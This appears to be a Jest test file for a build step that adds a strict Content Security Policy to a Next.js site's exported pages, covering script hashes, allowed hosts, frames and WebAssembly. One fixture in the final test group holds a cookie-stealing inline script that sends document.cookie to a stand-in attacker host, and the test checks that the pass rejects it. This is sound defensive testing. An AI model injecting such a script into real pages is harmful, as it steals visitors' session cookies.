import { createHash } from 'node:crypto';
import {
  applyPagePolicy,
  unknownInlineScripts,
  blogSources,
  buildPagePolicy,
  inlineScriptHashes,
  insertCspMeta,
  isArticlePage,
  isExecutableInline,
  scriptHash,
  WASM_PAGES,
} from './csp.mjs';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

const page = (head: string, body = '') =>
  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>${head}</head><body>${body}</body></html>`;

function directive(policy: string, name: string): string[] {
  const found = policy
    .split(';')
    .map((part) => part.trim().split(/\s+/))
    .find(([key]) => key === name);
  if (!found) throw new Error(`no ${name} in ${policy}`);
  return found.slice(1);
}

function metaPolicy(html: string): string {
  const match = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(html);
  if (!match?.[1]) throw new Error('no CSP meta');
  return match[1].replace(/&quot;/g, '"').replace(/&amp;/g, '&');
}

describe('inline script hashes', () => {
  it('hashes the exact text of each inline executable script, the way the browser does', () => {
    const html = page(
      '<script src="/_next/static/chunks/a.js" async=""></script><script id="_R_">self.a=1</script>',
      '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script type="module">import "x"</script>',
    );
    expect(inlineScriptHashes(html)).toEqual([sha('self.a=1'), sha('(self.__next_f=self.__next_f||[]).push([0])'), sha('import "x"')]);
  });

  it('leaves out data blocks such as JSON-LD, and external scripts', () => {
    const html = page(
      '<script src="/a.js"></script>',
      '<script type="application/ld+json">{"@type":"Organization"}</script><script type="application/json">{}</script>',
    );
    expect(inlineScriptHashes(html)).toEqual([]);
  });

  it('hashes non-ASCII text as UTF-8 and line endings as the HTML parser normalises them', () => {
    expect(scriptHash('push("café — ✓")')).toBe(sha('push("café — ✓")'));
    expect(scriptHash('a()\r\nb()\rc()')).toBe(sha('a()\nb()\nc()'));
  });

  it('lists a script repeated on the page once', () => {
    expect(inlineScriptHashes(page('<script>x()</script><script>x()</script>'))).toEqual([sha('x()')]);
  });

  it('tells executable script types from data blocks by the type attribute, not look-alikes', () => {
    expect(isExecutableInline('')).toBe(true);
    expect(isExecutableInline(' type="text/javascript"')).toBe(true);
    expect(isExecutableInline(" type='Module'")).toBe(true);
    expect(isExecutableInline(' data-type="application/ld+json"')).toBe(true);
    expect(isExecutableInline(' type="application/ld+json"')).toBe(false);
    expect(isExecutableInline(' type="text/plain"')).toBe(false);
    expect(isExecutableInline(' src="/a.js"')).toBe(false);
    expect(isExecutableInline(' data-src="/a.js"')).toBe(true);
  });
});

describe('page policy', () => {
  const sources = blogSources({ apiBase: 'https://public-api.wordpress.com/', site: 'news.example.com' });
  const policy = buildPagePolicy({ ...sources, scriptHashes: [sha('a()')] });

  it("limits scripts to the site and the page's hashes, with no unsafe-inline or unsafe-eval", () => {
    expect(directive(policy, 'script-src')).toEqual(["'self'", sha('a()')]);
    expect(policy).not.toMatch(/unsafe-eval/);
    expect(directive(policy, 'default-src')).toEqual(["'self'"]);
    expect(directive(policy, 'object-src')).toEqual(["'none'"]);
    expect(directive(policy, 'base-uri')).toEqual(["'self'"]);
  });

  it('lets the browser talk only to the site, the blog API and EmailJS', () => {
    expect(directive(policy, 'connect-src')).toEqual(["'self'", 'https://public-api.wordpress.com', 'https://api.emailjs.com']);
  });

  it("loads images only from the site and the blog's image hosts", () => {
    expect(directive(policy, 'img-src')).toEqual([
      "'self'",
      'data:',
      'https://*.wp.com',
      'https://*.files.wordpress.com',
      'https://public-api.wordpress.com',
      'https://news.example.com',
    ]);
  });

  it('uses the WordPress.com API by default and adds no host for a numeric site id', () => {
    expect(blogSources({})).toEqual({
      apiOrigin: 'https://public-api.wordpress.com',
      imageHosts: ['https://*.wp.com', 'https://*.files.wordpress.com', 'https://public-api.wordpress.com'],
    });
    expect(blogSources({ apiBase: 'http://127.0.0.1:5810', site: '123456' }).imageHosts).toEqual([
      'https://*.wp.com',
      'https://*.files.wordpress.com',
      'http://127.0.0.1:5810',
    ]);
  });
});

describe('WebAssembly on the search page only', () => {
  const sources = blogSources({});
  // A payload push: an inline script of a shape the pass accepts (scripts/lib/csp-inline.mjs).
  const script = 'self.__next_f.push([1,"a"])';
  const html = page(`<script>${script}</script>`);

  it("adds 'wasm-unsafe-eval' (and never 'unsafe-eval') where asked, and nowhere by default", () => {
    expect(directive(metaPolicy(applyPagePolicy(html, sources, { wasm: true })), 'script-src')).toEqual([
      "'self'",
      "'wasm-unsafe-eval'",
      sha(script),
    ]);
    expect(applyPagePolicy(html, sources, { wasm: true })).not.toMatch(/'unsafe-eval'/);
    expect(applyPagePolicy(html, sources)).not.toMatch(/wasm-unsafe-eval/);
  });

  it('is asked for the exported search page alone', () => {
    expect([...WASM_PAGES]).toEqual(['search.html']);
  });
});

describe('frames on article pages only, media from the WordPress hosts', () => {
  const sources = blogSources({ apiBase: 'https://blog-api.example.com', site: 'news.example.com' });
  const html = page('<script src="/a.js"></script>');
  const players = ['https://www.youtube-nocookie.com', 'https://player.vimeo.com'];

  it('lets an article frame exactly the players it is given', () => {
    expect(directive(metaPolicy(applyPagePolicy(html, sources, { frames: players })), 'frame-src')).toEqual(players);
  });

  it("denies frames everywhere else, explicitly ('none', not left to default-src)", () => {
    expect(directive(metaPolicy(applyPagePolicy(html, sources)), 'frame-src')).toEqual(["'none'"]);
    expect(directive(metaPolicy(applyPagePolicy(html, sources, { wasm: true })), 'frame-src')).toEqual(["'none'"]);
  });

  it('takes audio and video from the hosts images come from, never from data:', () => {
    const policy = metaPolicy(applyPagePolicy(html, sources));
    expect(directive(policy, 'media-src')).toEqual(directive(policy, 'img-src').filter((source) => source !== 'data:'));
    expect(directive(policy, 'media-src')).toEqual(
      expect.arrayContaining(["'self'", 'https://*.files.wordpress.com', 'https://blog-api.example.com', 'https://news.example.com']),
    );
  });

  it.each([
    ['blog/7/upgrade-walkthrough.html', true],
    ["blog/123456/a-post-with-an-apostrophe's-title.html", true],
    ['blog/article.html', true],
    ['blog.html', false],
    ['blog/page/2.html', false],
    ['blog/category/edge.html', false],
    ['blog/7.html', false],
    ['blog/7/slug/extra.html', false],
    ['blog/x7/slug.html', false],
    ['index.html', false],
    ['search.html', false],
    ['404.html', false],
    ['contact.html', false],
  ])('treats %s as an article page: %s', (path, article) => {
    expect(isArticlePage(path)).toBe(article);
  });
});

describe('meta insertion', () => {
  const sources = blogSources({});
  const FLIGHT = 'self.__next_f.push([1,"a"])';

  it('puts the policy right after the charset declaration, before every script and stylesheet', () => {
    const html = page(`<link rel="stylesheet" href="/a.css"/><script src="/a.js"></script><script>${FLIGHT}</script>`);
    const out = applyPagePolicy(html, sources);
    expect(out.indexOf('<meta charSet="utf-8"/><meta http-equiv="Content-Security-Policy"')).toBeGreaterThan(0);
    expect(out.indexOf('Content-Security-Policy')).toBeLessThan(out.indexOf('<link'));
    expect(directive(metaPolicy(out), 'script-src')).toEqual(["'self'", sha(FLIGHT)]);
  });

  it('is the first child of <head> when there is no charset declaration first', () => {
    const out = insertCspMeta('<html><head><title>x</title></head></html>', "default-src 'self'");
    expect(out).toBe(`<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'self'"/><title>x</title></head></html>`);
  });

  it('gives the same page on a second run instead of stacking policies', () => {
    const html = page(`<script>${FLIGHT}</script>`);
    const once = applyPagePolicy(html, sources);
    expect(applyPagePolicy(once, sources)).toBe(once);
  });

  it('refuses a page whose policy could not precede its scripts, or that has no head', () => {
    expect(() => insertCspMeta('<html><body></body></html>', "default-src 'self'")).toThrow(/no <head>/);
    expect(() => insertCspMeta('<script>a()</script><html><head></head></html>', "default-src 'self'")).toThrow(/precedes/);
  });
});

describe('strict inline scripts', () => {
  const sources = blogSources({});

  it('refuses to hash an inline script of a shape Next does not write, naming it', () => {
    const html = page(
      '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>fetch("//evil.example/?"+document.cookie)</script>',
    );
    expect(unknownInlineScripts(html)).toEqual(['fetch("//evil.example/?"+document.cookie)']);
    expect(() => applyPagePolicy(html, sources)).toThrow(/1 inline script\(s\) of a shape the CSP pass does not know[\s\S]*evil\.example/);
  });

  it('ignores data blocks such as JSON-LD, whatever they hold', () => {
    const html = page('<script type="application/ld+json">{"name":"alert(1)"}</script>');
    expect(unknownInlineScripts(html)).toEqual([]);
  });
});
